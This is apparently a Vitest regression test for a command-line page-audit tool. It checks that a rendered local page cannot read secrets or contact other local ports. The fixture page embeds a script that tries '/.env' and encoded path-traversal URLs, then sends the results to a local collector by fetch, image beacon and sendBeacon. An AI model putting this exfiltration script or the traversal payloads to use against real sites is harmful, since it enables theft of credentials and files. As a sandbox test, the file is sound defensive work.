import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { startServer, type LocalServer } from '../support/local-server.js';

// A file audit as a user runs it, rendered in Chromium:
// - issue 25.1: a page's script can read nothing but the page's own assets and reach no other
//   port of the machine (on 9b711e2 it read `.env` and a sibling folder's file and sent both to
//   another port on 127.0.0.1, with ALLOW_PRIVATE_TARGETS unset);
// - issue 22.1: the folder's stylesheet applies (on 9b711e2 it was served as
//   application/octet-stream and refused), so a block its CSS hides is hidden in the model.

let dir: string;
let collector: LocalServer;
const received: string[] = [];

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'file-mode-'));
  collector = await startServer((req, res) => {
    received.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  const site = path.join(dir, 'site');
  await mkdir(path.join(site, 'css'), { recursive: true });
  await mkdir(path.join(dir, 'site-secret'));
  await writeFile(path.join(site, '.env'), 'API_TOKEN=dotenv-secret-7731');
  await writeFile(path.join(dir, 'site-secret', 's.txt'), 'sibling-secret-4410');
  await writeFile(
    path.join(site, 'css', 'site.css'),
    '.decoy { display: none } h1 { font-size: 44px } .hero { padding: 24px }',
  );
  const leak = `${collector.origin}/leak`;
  await writeFile(
    path.join(site, 'index.html'),
    `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Acme bookkeeping</title>
<link rel="stylesheet" href="css/site.css">
</head>
<body>
<h1 class="decoy">Decoy headline that the stylesheet hides</h1>
<section class="hero">
<h1>Bookkeeping for small shops, done in an hour a month</h1>
<p>Acme reconciles your bank feeds, files your sales tax and answers your questions by email.</p>
<a href="/signup">Start a free trial</a>
</section>
<script>
(async () => {
  const seen = [];
  for (const p of ['/.env', '/..%2fsite-secret%2fs.txt', '/%2e%2e/site-secret/s.txt']) {
    let body = 'error';
    try { const r = await fetch(p); body = r.status + ' ' + (await r.text()); } catch (e) {}
    seen.push(p + ' ' + body);
  }
  document.title = 'probed ' + seen.join(' | ');
  const data = encodeURIComponent(seen.join('|'));
  try { await fetch(${JSON.stringify(leak)} + '?f=' + data, { mode: 'no-cors' }); } catch (e) {}
  new Image().src = ${JSON.stringify(leak)} + '?i=' + data;
  try { navigator.sendBeacon(${JSON.stringify(leak)} + '?b=' + data, data); } catch (e) {}
})();
</script>
</body>
</html>`,
  );
}, 60_000);

afterAll(async () => {
  await collector?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('npm run audit -- ./site/index.html (rendered)', () => {
  it('applies the folder stylesheet, serves no secret and lets the page reach no other local port', async () => {
    const run = await runCli([path.join(dir, 'site', 'index.html'), '--json', '--checks'], {
      // Private targets are not allowed for the run: only the file server is.
      env: { ALLOW_PRIVATE_TARGETS: '' },
    });
    expect(run.code, run.stderr).toBe(0);
    const audit = JSON.parse(run.stdout) as {
      page: { headline: { text: string | null }; render: { mode: string; stylesheets_failed: number } };
      copy_rewrites: { meta_title: { original: string | null } };
    };
    expect(audit.page.render.mode).toBe('render');
    // The stylesheet applied: the block it hides is not the headline.
    expect(audit.page.render.stylesheets_failed).toBe(0);
    expect(audit.page.headline.text).toBe('Bookkeeping for small shops, done in an hour a month');
    // The page's script ran (it retitled the page) and was refused every secret.
    expect(audit.copy_rewrites.meta_title.original).toMatch(/^probed \/\.env 404/);
    expect(run.stdout).not.toMatch(/dotenv-secret|sibling-secret/);
    // Nothing of the page reached the other port: only the file server's origin may be loopback.
    expect(received).toEqual([]);
    expect(collector.connections).toBe(0);
  }, 180_000);
});
